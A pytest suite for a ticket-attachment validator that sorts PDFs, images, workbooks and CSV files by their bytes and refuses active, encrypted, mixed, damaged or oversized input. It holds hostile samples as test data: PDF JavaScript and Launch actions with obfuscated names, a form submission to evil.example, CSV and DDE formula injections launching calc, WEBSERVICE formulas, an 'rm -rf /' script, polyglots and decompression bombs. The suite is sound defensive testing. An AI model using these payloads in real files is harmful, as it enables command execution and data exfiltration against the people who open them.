"""What may stand in a ticket is found out from the file's bytes, and nothing in it acts."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from onecard.model.attachments import UnfitFile
from onecard.operations import attached_images, attached_pdf, attached_workbooks
from onecard.operations.attached_files import judged
from tests.attached import formula, jpeg, linked, object_stream, pdf, png, png_chunk, workbook
from tests.workbooks import SheetMade, xls, xlsx, zipped

MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(200)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _stream(about: bytes, data: bytes = zlib.compress(bytes(9))) -> bytes:
    return b"<< " + about + b" >>\nstream\n" + data + b"\nendstream"


def _hidden(about: bytes, data: bytes) -> bytes:
    """A document with an object stream whose dictionary is not what it seems."""
    return pdf().replace(b"trailer", b"5 0 obj\n" + _stream(about, data) + b"\nendobj\ntrailer")


_GOES = b"<< /S /GoTo /D [2 0 R /Fit] >>"
_NEXT = (
    b"<< /S /GoTo /D [2 0 R /Fit] /Next 14 0 R >>\nendobj\n"
    b"14 0 obj\n<< /S /URI /URI (https://example.org) >>"
)
PACKED = zlib.compress(b"9 0 " + SCRIPT)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (pdf(), "pdf"),
        (pdf(packed=b"<< /Type /Outlines /First 5 0 R >>"), "pdf"),
        (pdf(b"<< /S /URI /URI (https://example.org) >>"), "pdf"),
        (pdf(b"<< /Length 4 /Filter /DCTDecode >>\nstream\nabcd\nendstream"), "pdf"),
        (png(), "png"),
        (png(2, 2, png_chunk(b"tEXt", b"Software\0x")), "png"),
        (jpeg(), "jpg"),
        (jpeg(comment=b"a camera"), "jpg"),
        (jpeg() + bytes(16), "jpg"),
        (workbook(), "xlsx"),
        (workbook(**linked("hyperlink", "https://example.org/")), "xlsx"),
        (workbook(**{"xl/media/image1.png": png()}), "xlsx"),
        ("编号,结论\n1,已核对\n2,-3.5\n".encode(), "csv"),
        ('编号,同比\n1,－１２．５％\n2,"+1,234"\n'.encode(), "csv"),
        ("姓名\n\U00031350\U0002ebf0\n".encode(), "txt"),
        (pdf(more=b"/OpenAction << /S /GoTo /D [2 0 R /Fit] >> /X << /URI (a) >> "), "pdf"),
        (pdf(_GOES, b"<< /S /URI /URI (http://a.example) >>", more=b"/OpenAction 3 0 R "), "pdf"),
        (pdf(b"<< /Filter /Adobe.PPKLite >>", packed=b"<< >>"), "pdf"),
        (pdf(_stream(b"/Filter [/FlateDecode /DCTDecode]"), packed=b"<< >>"), "pdf"),
        (pdf(_stream(b"/Filter /FlateDecode /DecodeParms << /Columns 5 >>"), packed=b"x"), "pdf"),
        (pdf(_stream(b"/Filter /LZWDecode")), "pdf"),
        (workbook(**{"xl/worksheets/sheet2.xml": formula(b'A1&amp;"a|b"&amp;Sheet1!A1')}), "xlsx"),
        (
            workbook(
                **{
                    "xl/charts/chart1.xml": formula(b"Sheet1!$A$1", b"c:f").replace(
                        b"<worksheet", b'<worksheet xmlns:c="c"'
                    )
                }
            ),
            "xlsx",
        ),
        ("编号\t结论\n1\t已核对\n".encode("gb18030"), "csv"),
        ("\ufeff核对记录：\n一、无误。\n".encode(), "txt"),
        ("核对记录：\n一、无误。\n".encode("gb18030"), "txt"),
        (b"a, b\nand c\n", "txt"),
    ],
)
def test_a_file_is_what_its_bytes_say(data: bytes, kind: str) -> None:
    assert judged(data) == kind


def reason(data: bytes) -> str:
    with pytest.raises(UnfitFile) as refused:
        judged(data)
    return refused.value.reason


@pytest.mark.parametrize(
    "data",
    [
        PROGRAM,
        b"\x7fELF\x02\x01\x01" + bytes(60),
        b"#!/bin/sh\nrm -rf /\n",
        b"@echo off\r\n",
        b"<html><script>alert(1)</script></html>",
        b"  <!DOCTYPE html>\n",
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b"\xef\xbb\xbf<?xml version='1.0'?><a/>",
        b"{\\rtf1 x}",
        b"MIME-Version: 1.0\r\n\r\nx",
        b"GIF89a" + bytes(20),
        b"Rar!\x1a\x07\0",
        b"\xff\xfea\0b\0",
        "甲".encode("utf-16"),
        xls([["a", "b"]]),
        zipped({"a.txt": b"x"}),
        zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}),
        b"line\x1b[31m\n",
        b"\0",
    ],
)
def test_what_is_none_of_the_kinds_is_not_taken(data: bytes) -> None:
    assert reason(data) == "kind"


@pytest.mark.parametrize(
    "data",
    [
        pdf(SCRIPT),
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScript")),
        pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        pdf(more=b"/Names << /EmbeddedFiles 3 0 R >> "),
        pdf(b"<< /Type /EmbeddedFile >>"),
        pdf(more=b"/AcroForm << /XFA 3 0 R >> "),
        pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
        pdf(b"<< /Subtype /RichMedia >>"),
        pdf(b"<< /S /GoToE >>"),
        pdf(packed=SCRIPT),
        pdf(packed=SCRIPT.replace(b"/JavaScript", b"/Java#53cript")),
        pdf() + pdf(SCRIPT),
        pdf(b"<< /Note (obj) >>", packed=SCRIPT),
        pdf().replace(b"trailer", b"% stream\n5 0 obj " + SCRIPT + b" endobj endstream\ntrailer"),
        _hidden(b"/Filter /FlateDecode /Xstream 0 /Type /ObjStm /N 1", PACKED),
        _hidden(b"/Filter /FlateDecode /X (>> stream\n) /Length 9", PACKED),
        _hidden(b"/Filter /FlateDecode", zlib.compress(b"% x\n 9 0 " + SCRIPT)),
        _hidden(b"/Filter /FlateDecode", zlib.compress(b"\0" * 9000 + b"9 0 " + SCRIPT)),
        _hidden(b"/First 8 0 R /N 1 /Filter /FlateDecode", PACKED),
        pdf(more=b"/OpenAction << /S /URI /URI (https://example.org) >> "),
        pdf(packed=b"<< /AA << /O << /S /U#52I /URI (https://example.org) >> >> >>"),
        pdf(b"<< /S /URI /URI (https://example.org) >>", more=b"/OpenAction 3 0 R "),
        pdf(b"<< /S /URI /URI (https://example.org) >>", more=b"/AA << /WC 3 0 R >> "),
        pdf(b"<< /Type /Page /S /URI /URI (http://a.example) >>", more=b"/OpenAction 3 0 R "),
        pdf(packed=b"<< /S /URI /URI (http://a.example) >>", more=b"/OpenAction 9 0 R "),
        pdf(b"<< /S /URI /URI (http://a.example) >>", more=b"/OpenAction %\n 3 0 R "),
        pdf(b"<< /S /URI /URI (a) >>", more=b"/AA << /WC 3 %\n 0 R >> "),
        pdf(b"<< /X (endobj\ntrailer) /URI (http://a.example) >>", more=b"/OpenAction 3 0 R "),
        pdf(_NEXT.replace(b"14 0 R", b"14 % 0 R\n0 R"), more=b"/OpenAction 3 0 R "),
        pdf(_NEXT, more=b"/OpenAction 3 0 R "),
        pdf(b"<< /X << /URI (a) >> >>", more=b"/OpenAction 99 0 R "),
        xlsx(SheetMade([["a"]]), types=MACROS),
        workbook(**{"xl/vbaProject.bin": b"x"}),
        workbook(**{"xl/embeddings/oleObject1.bin": b"x"}),
        workbook(**{"xl/embeddings/a.docx": b"x"}),
        workbook(**{"xl/activeX/activeX1.xml": b"<a/>"}),
        workbook(**{"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        workbook(**{"XL/ExternalLinks/a.xml": b"<a/>"}),
        workbook(**{"xl/connections.xml": b"<a/>"}),
        workbook(**{"xl/media/image1.emf": b"x"}),
        workbook(**{"customUI/customUI.xml": b"<a/>"}),
        workbook(**{"docProps/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        workbook(**linked("hyperlink", "file://host/share/a.exe")),
        workbook(**linked("hyperlink", "\\\\host\\share")),
        workbook(**linked("externalLinkPath", "https://example.org/a.xlsx")),
        workbook(**linked("attachedTemplate", "https://example.org/a.xlsx")),
        workbook(**linked("image", "https://example.org/a.png")),
        b"a,b\n1,=1+1\n",
        b"a,b\n1,@SUM(A1)\n",
        "a,b\n1,＝1+1\n".encode(),
        "a,b\n1,－1+cmd|'/C calc'!A0\n".encode(),
        b"a,b\n1,-\n",
        b"a,b\n1,+cmd|' /C calc'!A0\n",
        b'a,b\n1,"  =HYPERLINK(""http://evil.example"")"\n',
        "a;b\n1;-2+3+cmd|' /C calc'!A0\n".encode("gb18030"),
    ],
)
def test_what_acts_is_not_taken(data: bytes) -> None:
    assert reason(data) == "active"


@pytest.mark.parametrize(
    ("part", "tag"),
    [
        ("xl/worksheets/sheet2.xml", b"f"),
        ("xl/worksheets/sheet2.xml", b"formula1"),
        ("xl/workbook.xml", b"definedName"),
        ("xl/tables/table1.xml", b"calculatedColumnFormula"),
        ("xl/charts/chart1.xml", b"c:f"),
    ],
)
@pytest.mark.parametrize(
    "text",
    [
        b"cmd|'/c calc'!A0",
        b'"a"&amp;cmd|\'/c "calc"\'!A0',
        b'cmd|\'"\'!A0&amp;""',
        b"WEBSERVICE(A1)",
        b"&#87;ebservice(A1)",
        b"<![CDATA[WEBSERVICE(A1)]]>",
        b"WEB<!-- -->SERVICE(A1)",
        b"WEB<x/>SERVICE(A1)",
        b'_xlfn.IMAGE ("https://example.org/a.png")',
        b'RTD\n("a",,"b")',
        b'CALL("a","b","J")',
        b'_xlfn.STOCKHISTORY("a",1)',
    ],
)
def test_a_formula_that_asks_outside_is_found_wherever_it_stands(
    part: str, tag: bytes, text: bytes
) -> None:
    found = formula(text, tag).replace(b"<worksheet", b'<worksheet xmlns:c="c"', 1)
    assert reason(workbook(**{part: found})) == "active"


def test_a_pivot_tables_own_formula_is_looked_at() -> None:
    part = b'<a><calculatedItem formula = "&#87;EBSERVICE(A1)"/></a>'
    assert reason(workbook(**{"xl/pivotCache/pivotCacheDefinition1.xml": part})) == "active"


def test_looking_through_goes_over_a_file_once() -> None:
    """Each of these has taken minutes, with the whole process standing still."""
    many = 200_000
    assert reason(b"a,b\n1,-" + b"1" * 130_000 + b"x\n") == "active"
    assert judged(b"a,b\n1,-" + b"1 " * 60_000 + b"\n") == "csv"
    assert judged(b"a,b\n1," + b"' " * 60_000 + b"\n") == "csv"
    for text in (b"|" * many, b"|'" * many, b'"' * many + b'"', b" " * many, b"( " * many):
        sheet = {"xl/worksheets/sheet2.xml": formula(text)}
        assert judged(workbook(**sheet)) == "xlsx"
    assert judged(workbook(**{"xl/worksheets/sheet2.xml": b"<a>" + b"<f" * many})) == "xlsx"
    small = zlib.compress(b"x")
    streams = (b">>stream\n" + small) * (many // 40)
    assert judged(pdf(b"<< " + streams + b" >>")) == "pdf"


def encrypted() -> bytes:
    """A workbook whose first part says that it is encrypted."""
    data = bytearray(workbook())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + place] |= 1
    return bytes(data)


@pytest.mark.parametrize("data", [pdf(more=b"/Encrypt 3 0 R "), encrypted()])
def test_what_is_encrypted_cannot_be_looked_through(data: bytes) -> None:
    assert reason(data) == "sealed"


@pytest.mark.parametrize(
    "data",
    [
        png() + zipped({"a.exe": PROGRAM}),
        jpeg() + zipped({"a.exe": PROGRAM}),
        pdf().replace(b"%%EOF\n", b"") + zipped({"a.exe": PROGRAM}) + b"%%EOF",
        pdf() + zipped({"a.exe": PROGRAM}),
        png() + b"<script>alert(1)</script>",
        jpeg() + b"MZ",
        pdf() + b"<html>",
        workbook() + b"MZ",
        b"MZ" * 20 + workbook(),
    ],
)
def test_what_is_two_files_at_once_is_neither(data: bytes) -> None:
    assert reason(data) in ("mixed", "kind", "damaged")


def test_an_archive_behind_a_picture_is_said_to_be_one() -> None:
    assert reason(png() + zipped({"a.exe": PROGRAM})) == "mixed"
    assert reason(workbook() + b"MZ") == "mixed"


@pytest.mark.parametrize(
    "data",
    [
        pdf()[:-10],
        b"%PDF-1.7\n",
        png()[:-4],
        png()[:30],
        png().replace(b"IDAT", b"IDAX"),
        b"\x89PNG\r\n\x1a\n",
        jpeg()[:-2],
        jpeg()[:9],
        b"\xff\xd8\xff",
        b"\xff\xd8\xff\xd9",
        workbook()[:-5],
        b"PK\x03\x04" + bytes(40),
        pdf().replace(b"trailer", object_stream(SCRIPT, b"/Filter /LZWDecode") + b"trailer"),
        pdf().replace(b"trailer", object_stream(SCRIPT, b"/Filter 7 0 R") + b"trailer"),
        pdf().replace(
            b"trailer",
            object_stream(SCRIPT, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")
            + b"trailer",
        ),
        pdf(packed=b"x").replace(b"stream\n", b"stream\n\0\0", 1),
        workbook(**{"docProps/a.xml": b"<?xml version='1.0' encoding='utf-7'?><a/>"}),
        workbook(**{"docProps/a.xml": b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-7'?><a/>"}),
        workbook(**{"docProps/a.xml": "<a/>".encode("utf-16")}),
        workbook(**{"xl/worksheets/sheet2.xml": b"<a><f>1</a>"}),
        _hidden(b"/Type /ObjStm /N 1 /First 4 /X << >> stream\n", b"80002A>"),
        _hidden(b"/Filter /FlateDecode /X << /Type /ObjStm >> stream\n", PACKED),
        _hidden(b"/First 8 0 R /N 1 /Filter /LZWDecode", b"x"),
        pdf(_stream(b"/Filter /LZWDecode"), packed=b"<< >>"),
        pdf(_stream(b"/Filter [/ASCII85Decode /FlateDecode]"), packed=b"<< >>"),
        pdf(b"<< /Type /XRef >>", _stream(b"/Filter 7 0 R")),
        workbook(**{"xl/media/image1.png": b"MZ"}),
        workbook(**{"XL/STYLES.XML": b"<a/>"}),
    ],
)
def test_what_is_not_whole_is_not_taken(data: bytes) -> None:
    assert reason(data) in ("damaged", "mixed")


def test_a_picture_has_a_bearable_size() -> None:
    for data in (png(40_000, 1), png(20_000, 20_000), jpeg(30_001, 1), jpeg(30_000, 30_000)):
        assert reason(data) == "unpacks"
    for data in (png(0, 1), jpeg(0, 1)):
        assert reason(data) == "damaged"


def test_bombs_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attached_workbooks, "MOST_UNPACKED", 100_000)
    monkeypatch.setattr(attached_pdf, "MOST_UNPACKED", 100_000)
    monkeypatch.setattr(attached_images, "MOST_TEXT", 100_000)
    bomb = bytes(10_000_000)
    assert reason(workbook(**{"docProps/app.xml": b"<a>" + bomb + b"</a>"})) == "unpacks"
    assert reason(pdf(packed=bomb)) == "unpacks"
    packed = zlib.compress(bomb)
    for name, body in (
        (b"zTXt", b"Comment\0\0" + packed),
        (b"iCCP", b"profile\0\0" + packed),
        (b"iTXt", b"Comment\0\x01\0\0\0" + packed),
    ):
        assert reason(png(2, 2, png_chunk(name, body))) == "unpacks"
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(attached_workbooks.MOST_PARTS + 1):
            archive.writestr(f"docProps/{number}.xml", b"")
    assert reason(many.getvalue()) == "unpacks"


def test_sizes_that_a_directory_tells_are_not_believed() -> None:
    """A part that claims four bytes and unpacks to more."""
    data = bytearray(workbook(**{"docProps/app.xml": b"<a>" + bytes(200_000) + b"</a>"}))
    place = data.rfind(b"docProps/app.xml") - 46
    struct.pack_into("<L", data, place + 24, 4)
    assert reason(bytes(data)) in ("damaged", "mixed")


def test_a_message_quotes_nothing_of_the_file() -> None:
    for data in (pdf(b"<< /S /Launch /F (410105190001010010) >>"), b"a,b\n1,=410105190001010010\n"):
        with pytest.raises(UnfitFile) as refused:
            judged(data)
        assert "410105" not in str(refused.value)


def test_whatever_a_library_makes_of_it_is_no_error_of_ours(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(_data: bytes) -> None:
        raise RecursionError

    monkeypatch.setattr(attached_pdf, "check", broken)
    assert reason(pdf()) == "damaged"
